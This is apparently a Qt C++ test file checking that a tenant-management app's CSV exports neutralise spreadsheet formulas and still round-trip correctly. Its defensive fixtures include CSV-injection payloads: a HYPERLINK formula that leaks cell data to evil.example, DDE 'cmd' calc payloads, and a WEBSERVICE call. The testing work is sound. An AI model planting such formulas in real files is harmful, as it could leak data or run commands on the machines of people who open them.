#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include "app/capacity/CapacityResultCsv.h"
#include "app/health/HealthExport.h"
#include "app/inventory/InventoryExport.h"
#include "app/migration/MappingCsv.h"
#include "app/onboarding/BulkCsv.h"
#include "app/onboarding/BulkResult.h"
#include "app/registry/CustomerRegistry.h"
#include "app/util/Csv.h"

using namespace td;

namespace {
const QString kConn = QStringLiteral("11111111-2222-4333-8444-555555555555");
const QString kProfile = QStringLiteral("aaaaaaaa-0000-4000-8000-000000000001");
const QString kWs = QStringLiteral("bbbbbbbb-0000-4000-8000-000000000002");

// What an attacker puts in a name or an error message (OWASP "CSV injection").
QStringList attacks()
{
    return {QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            QStringLiteral("+cmd|' /C calc'!A0"),
            QStringLiteral("-2+3"),
            QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
            QStringLiteral("\t=1+1"),
            QStringLiteral("\r=1+1")};
}

// True when a cell of the written text starts (after its opening quote) with what a spreadsheet runs.
bool hasFormulaCell(const QString &csv)
{
    static const QRegularExpression re(QStringLiteral("(?:^|[,\\n])(?:[=+\\-@\\t]|\"[=+\\-@\\t\\r])"));
    return re.match(csv).hasMatch();
}
} // namespace

// Every CSV TenantDesk writes goes through Csv::line, which neutralises formulas; the files it reads
// back (customers, mapping, onboarding result, inventory) come back unchanged.
class TestCsvExport : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void neutraliseIsReversible_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("written");
        QTest::newRow("equals") << "=1+1"
                                << "'=1+1";
        QTest::newRow("plus") << "+1"
                              << "'+1";
        QTest::newRow("minus") << "-2+3"
                               << "'-2+3";
        QTest::newRow("at") << "@SUM(A1)"
                            << "'@SUM(A1)";
        QTest::newRow("tab") << "\t=1"
                             << "'\t=1";
        QTest::newRow("cr") << "\r=1"
                            << "'\r=1";
        QTest::newRow("already quoted") << "'=1"
                                        << "''=1";
        QTest::newRow("two quotes") << "''@x"
                                    << "'''@x";
        QTest::newRow("plain quote") << "'hello"
                                     << "'hello";
        QTest::newRow("lone quote") << "'"
                                    << "'";
        QTest::newRow("text") << "Contoso = 1"
                              << "Contoso = 1";
        QTest::newRow("empty") << ""
                               << "";
    }
    void neutraliseIsReversible()
    {
        QFETCH(QString, field);
        QFETCH(QString, written);
        QCOMPARE(Csv::neutralise(field), written);
        QCOMPARE(Csv::restore(written), field);
        const CsvTable t = Csv::parse(Csv::line({QStringLiteral("h")}).toUtf8() +
                                      Csv::line({field, QStringLiteral("x")}).toUtf8());
        QVERIFY(t.ok());
        if (!field.isEmpty()) {
            QCOMPARE(t.rows.size(), 1);
            QCOMPARE(t.rows.first().fields.first(), field);
        }
    }

    void inventoryExport()
    {
        QVector<ExportRow> rows;
        for (const QString &a : attacks()) {
            ExportRow r;
            r.kind = QStringLiteral("report");
            r.id = kWs;
            r.name = a;
            r.workspaceName = a;
            r.path = a;
            rows.append(r);
        }
        const QByteArray csv = InventoryExport::toCsv(rows);
        QVERIFY2(!hasFormulaCell(QString::fromUtf8(csv)), csv.constData());
        QVector<ExportRow> back;
        QString error;
        QVERIFY2(InventoryExport::fromCsv(csv, &back, &error), qPrintable(error));
        QCOMPARE(back.size(), rows.size());
        for (int i = 0; i < rows.size(); ++i)
            QCOMPARE(back.at(i).values(), rows.at(i).values());
    }

    void healthExport()
    {
        QVector<HealthFinding> findings;
        for (const QString &a : attacks()) {
            HealthFinding f;
            f.ruleId = QStringLiteral("orphan-workspace");
            f.explanation = a;
            f.advice = a;
            f.objects.append(HealthObject{QStringLiteral("workspace"), kWs, a});
            findings.append(f);
        }
        const QString csv = QString::fromUtf8(HealthExport::toCsv(findings));
        QVERIFY2(!hasFormulaCell(csv), qPrintable(csv));
        QVERIFY(csv.contains(QLatin1String("'@SUM(1+1)")));
    }

    void capacityResult()
    {
        QVector<JobItemInfo> items;
        for (const QString &a : attacks()) {
            JobItemInfo i;
            i.key = kWs;
            i.displayName = a;
            i.error = a;
            i.state = ItemState::Failed;
            items.append(i);
        }
        const QString csv = CapacityResultCsv::toCsv(items, QJsonObject());
        QVERIFY2(!hasFormulaCell(csv), qPrintable(csv));
        QVERIFY(csv.contains(QLatin1String("'-2+3")));
    }

    void onboardingResultReadsBackAsBulkCsv()
    {
        QVector<JobItemInfo> items;
        QStringList ids;
        for (int n = 0; n < attacks().size(); ++n) {
            JobItemInfo i;
            i.key = QStringLiteral("C%1").arg(n);
            i.displayName = attacks().at(n).trimmed().isEmpty() ? QStringLiteral("x") : attacks().at(n);
            i.error = attacks().at(n);
            i.state = ItemState::Failed;
            items.append(i);
            ids.append(i.key);
        }
        OnboardingRow bad;
        bad.customerId = QStringLiteral("bad");
        bad.displayName = QStringLiteral("=1+1");
        bad.error = QStringLiteral("@x");
        const QString csv = BulkResult::toCsv(items, {bad});
        QVERIFY2(!hasFormulaCell(csv), qPrintable(csv));
        const BulkCsvResult back = BulkCsv::parse(csv.toUtf8(), QDir::tempPath());
        QVERIFY2(back.error.isEmpty(), qPrintable(back.error));
        QCOMPARE(back.rows.size(), items.size() + 1);
        for (int n = 0; n < items.size(); ++n)
            QCOMPARE(back.rows.at(n).customerId, ids.at(n));
        QCOMPARE(back.rows.at(0).displayName, attacks().at(0));
        QCOMPARE(back.rows.last().displayName, QStringLiteral("=1+1"));
    }

    void customersExportImportRoundTrip()
    {
        QTemporaryDir dir;
        CustomerRegistry from(dir.filePath(QStringLiteral("a.sqlite")));
        QVERIFY(from.open());
        const QStringList names = {attacks().at(0), attacks().at(1), attacks().at(2), attacks().at(3),
                                   QStringLiteral("'=already quoted")};
        for (int n = 0; n < names.size(); ++n) {
            Customer c;
            c.customerId = QStringLiteral("c%1").arg(n);
            c.displayName = names.at(n);
            c.connectionId = kConn;
            c.profileId = kProfile;
            c.workspaceIds = {kWs};
            QString error;
            QVERIFY2(from.add(c, &error), qPrintable(error));
        }
        const QString csv = from.toCsv();
        QVERIFY2(!hasFormulaCell(csv), qPrintable(csv));
        CustomerRegistry to(dir.filePath(QStringLiteral("b.sqlite")));
        QVERIFY(to.open());
        const CsvImportResult r = to.importCsv(csv.toUtf8(), kConn);
        QVERIFY2(r.errors.isEmpty(), qPrintable(r.errors.join(QLatin1Char('\n'))));
        QCOMPARE(r.added, names.size());
        for (int n = 0; n < names.size(); ++n)
            QCOMPARE(to.find(kConn, QStringLiteral("c%1").arg(n)).displayName, names.at(n));
    }

    void mappingRoundTrip()
    {
        MigrationInventory inventory;
        LegacyWorkspace w;
        w.id = kWs;
        w.name = QStringLiteral("=WEBSERVICE(\"http://evil.example\")");
        inventory.workspaces.append(w);
        MappingRow row;
        row.workspaceId = w.id;
        row.workspaceName = w.name;
        row.customerId = QStringLiteral("c1");
        row.displayName = QStringLiteral("@SUM(1+1)");
        row.included = true;
        const QByteArray csv = MappingCsv::toCsv({row});
        QVERIFY2(!hasFormulaCell(QString::fromUtf8(csv)), csv.constData());
        QStringList errors;
        const QVector<MappingRow> back = MappingCsv::import(csv, inventory, &errors);
        QVERIFY2(errors.isEmpty(), qPrintable(errors.join(QLatin1Char('\n'))));
        QCOMPARE(back.size(), 1);
        QCOMPARE(back.first().customerId, row.customerId);
        QCOMPARE(back.first().displayName, row.displayName);
    }
};

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csv_export.moc"
